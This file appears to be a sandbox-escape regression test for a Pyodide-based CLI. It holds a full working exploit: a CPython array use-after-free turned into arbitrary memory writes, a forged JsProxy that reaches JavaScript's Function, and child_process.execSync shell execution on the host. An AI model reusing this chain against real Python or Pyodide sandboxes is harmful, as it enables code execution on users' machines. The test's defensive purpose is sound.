# Attack 74: from CPython's array bug to a shell on the CLI's host (helper-146). An item whose
# __index__ empties the array while a[i] = item converts it is written through the emptied
# array's pointer (NULL: address 0 is memory in WebAssembly), so a[addr // 4] = item writes 4
# bytes at addr. Four writes make a bytearray over all of the interpreter's memory; a JsProxy
# forged in it (its type the static JsProxy, its handle Pyodide's immortal {noValueMarker: 1})
# hands the program a JavaScript object, whose constructor's constructor is the realm's
# Function. With it the reviewer ran Function("return globalThis.process")() and then
# process.getBuiltinModule("child_process").execSync(...) as the user. The Python side cannot
# close the bug (the array type is immutable, and asyncio imports the module); the CLI's workers
# make no code from strings, and give up what reaches the host (node-worker-lockdown.ts).
# Each attempt prints "blocked: ..." when it fails, "ESCAPED: ..." if it ever succeeded.
# MARKER is replaced by the test with a path of its own: the shell would make that file.
import array

MARKER = "/tmp/looplab-attack-74-marker"
ba = bytearray(64)


def write32(addr, value):
    a = array.array("i", [0]) * (addr // 4 + 1)

    class Evil:
        def __index__(self):
            del a[:]
            return value if value < 2**31 else value - 2**32

    a[addr // 4] = Evil()


try:
    for off, v in ((8, 0x7FFF0000), (12, 0x7FFF0000), (16, 0), (20, 0)):
        write32(id(ba) + off, v)
    mem = ba
    print("memory:", hex(len(mem)))
except Exception as error:
    print("blocked: memory,", type(error).__name__)
    raise SystemExit(0)


def r32(a):
    return int.from_bytes(mem[a:a + 4], "little")


def w32(a, v):
    mem[a:a + 4] = (v & 0xFFFFFFFF).to_bytes(4, "little")


def walk(c, seen):
    for s in type.__subclasses__(c):
        if s not in seen:
            seen.add(s)
            walk(s, seen)


seen = set()
walk(object, seen)
JsProxy = min((c for c in seen if c.__name__ == "JsProxy"), key=id)
kept = []


def fake_proxy(ref):
    buf = bytearray(128)
    p = r32(id(buf) + 16)
    w32(p, 0x100000)
    w32(p + 4, id(JsProxy))
    w32(p + 36, ref)
    holder = [None]
    w32(r32(id(holder) + 12), p)
    kept.append(buf)
    return holder[0]


try:
    Function = fake_proxy(12).constructor.constructor
    print("a JavaScript function:", Function.name)
except Exception as error:
    print("blocked: a forged JsProxy,", type(error).__name__)
    raise SystemExit(0)

try:
    process = Function("return globalThis.process")()
    print("ESCAPED: Function made code, process", process.pid)
    shell = process.getBuiltinModule("child_process")
    print("ESCAPED: a shell:", shell.execSync("touch " + MARKER, encoding="utf8"))
except Exception as error:
    print("blocked: Function,", type(error).__name__, str(error).split("\n")[0][:120])
